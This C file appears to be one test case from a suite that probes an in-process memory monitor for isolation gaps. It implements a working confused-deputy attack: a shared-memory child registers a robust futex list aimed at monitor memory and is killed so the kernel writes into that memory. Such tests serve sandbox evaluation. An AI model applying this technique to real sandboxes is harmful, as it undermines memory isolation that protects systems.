/* attack
class: deputy
aim: memory
expect: { none: gap, mpk: gap }
gap: a process that shares memory and is killed in a call that the monitor makes with its own rights, has the kernel walk its robust list with them
tries: the list of robust futexes of a process that is killed inside the monitor
*/
/* When a task dies, the kernel marks each futex in its list whose value is its number: here a word of the monitor's that holds the number. The task shares
   memory with this one, and dies in a call for which the monitor keeps its rights. */
#include "attack.h"
#include <linux/filter.h>
#include <linux/futex.h>
#include <linux/seccomp.h>
#include <sys/file.h>
#include <sys/prctl.h>
static struct robust_list_head head;
static struct robust_list entry;
static volatile uintptr_t word;
static volatile pid_t number;
static volatile int ready;
static int lock_file;
static int dies(void *unused) {
    (void)unused;
    number = (pid_t)syscall(SYS_gettid);
    while (!word) usleep(1000);
    entry.next = &head.list;
    head.list.next = &entry;
    head.futex_offset = (long)(word - (uintptr_t)&entry);
    syscall(SYS_set_robust_list, &head, sizeof head);
    /* With a filter of its own every call is the monitor's to make; this one has no pointers, so that it keeps its rights. */
    struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog program = {1, &allow};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
    ready = 1;
    for (;;) flock(lock_file, LOCK_EX); /* held by the parent */
    return 0;
}
int main(void) {
    struct target t[64];
    read_targets(t, 64);
    lock_file = open("lock", O_RDWR | O_CREAT, 0600);
    int other = open("lock", O_RDWR);
    flock(other, LOCK_EX);
    char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t child = clone(dies, stack + (1 << 16), CLONE_VM | SIGCHLD, NULL);
    if (child < 0) not_here("no process that shares memory");
    while (!number) usleep(1000);
    if (t[0].own) {
        *(volatile uint32_t *)t[0].from = (uint32_t)number;
        word = t[0].from;
    } else {
        /* The monitor keeps process and thread number side by side. */
        char *line = ask("find", (uintptr_t)(uint32_t)number << 32 | (uint32_t)number);
        word = line ? strtoul(line, NULL, 16) : 0;
    }
    if (!word) {
        kill(child, SIGKILL);
        not_here("the number was not found in the monitor");
    }
    while (!ready) usleep(1000);
    usleep(200000);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    uint32_t now = t[0].own ? *(volatile uint32_t *)word : (uint32_t)value_at(&t[0], word);
    verdict((now & FUTEX_OWNER_DIED) != 0);
}
